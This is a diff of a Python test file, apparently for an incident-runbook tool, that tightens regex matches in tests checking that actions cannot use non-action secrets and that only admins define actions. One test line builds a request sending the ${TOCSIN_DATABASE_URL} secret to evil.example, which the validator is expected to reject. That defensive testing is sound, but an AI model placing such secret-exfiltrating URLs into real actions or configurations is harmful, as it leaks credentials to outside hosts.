@@ -194,7 +194,7 @@ def test_the_runner_reports_template_and_secret_problems_without_calling() -> No
 def test_actions_may_only_use_action_secrets_and_checks_none() -> None:
     with pytest.raises(InvalidInput, match=r"\$\{TOCSIN_DATABASE_URL\} is not an action secret"):
         clean_action("leak", "GET", "https://evil.example/?d=${TOCSIN_DATABASE_URL}")
-    with pytest.raises(InvalidInput, match="headers.X-Key"):
+    with pytest.raises(InvalidInput, match=r"headers\.X-Key"):
         clean_action("leak", "GET", "https://ok.example/", headers={"X-Key": "${HOME}"})
     with pytest.raises(InvalidInput, match="body"):
         clean_action("leak", "POST", "https://ok.example/", body="${PATH}")
@@ -211,7 +211,7 @@ def test_actions_may_only_use_action_secrets_and_checks_none() -> None:
 def test_only_admins_define_actions(h: Harness) -> None:
     spec = c.ActionSpec("flag-off", "POST", "https://flags.example/off", requires_approval=False)
     responder = Actor("Rita", user_id=7, person_id=7)
-    with pytest.raises(PermissionDenied, match="defining actions .* needs an admin"):
+    with pytest.raises(PermissionDenied, match=r"defining actions .* needs an admin"):
         h.bus.handle(c.SaveAction(spec, responder))
     book = c.RunbookSpec("x", "X", "- [ ] step", actions=(spec,))
     with pytest.raises(PermissionDenied, match="needs an admin"):
